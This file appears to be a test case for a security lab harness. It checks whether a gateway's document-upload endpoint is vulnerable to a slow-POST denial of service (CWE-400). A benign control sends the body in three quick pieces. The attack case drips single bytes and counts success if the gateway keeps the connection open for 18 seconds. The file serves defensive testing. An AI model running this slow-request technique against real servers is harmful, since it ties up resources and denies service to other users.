// A slow POST (CWE-400): each request holds a connection, its buffers and a goroutine for as long as its sender likes.
const body = JSON.stringify({ title: 'Minutes', text: 'The board agreed on Monday.' });

function begin(lab, timeout) {
  const c = lab.mesh.dial({ address: lab.edge.address, from: lab.from, tls: { ca: lab.ca, serverName: lab.edge.name, alpn: ['http/1.1'] }, timeout });
  if (c.error) throw new Error(c.error);
  lab.note({ local: c.local });
  c.write(`POST /v1/documents HTTP/1.1\r\nHost: ${lab.edge.address}\r\nAuthorization: Bearer ${lab.tokens.alice}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`);
  return c;
}

// Somebody on a bad line: three pieces in half a second.
export function benign(lab) {
  const c = begin(lab, 10000);
  for (const piece of [body.slice(0, 10), body.slice(10, 20), body.slice(20)]) {
    c.write(piece);
    lab.mesh.sleep(250);
  }
  const status = c.readAll().split(' ')[1];
  c.close();
  lab.judge(status === '201', `status ${status}`);
}

// It is gained when the gateway still waits after 18 seconds.
export function attack(lab) {
  const c = begin(lab, 3000);
  let answer = '';
  for (let n = 0; n < 6 && !answer; n++) {
    c.write(body[n]);
    answer = c.read();
    if (!answer && c.errno !== 'TIMEOUT') break;
  }
  const held = !answer && c.errno === 'TIMEOUT';
  c.close();
  lab.judge(held, held ? 'held for 18 seconds' : `status ${answer.split(' ')[1]} ${c.errno}`);
}
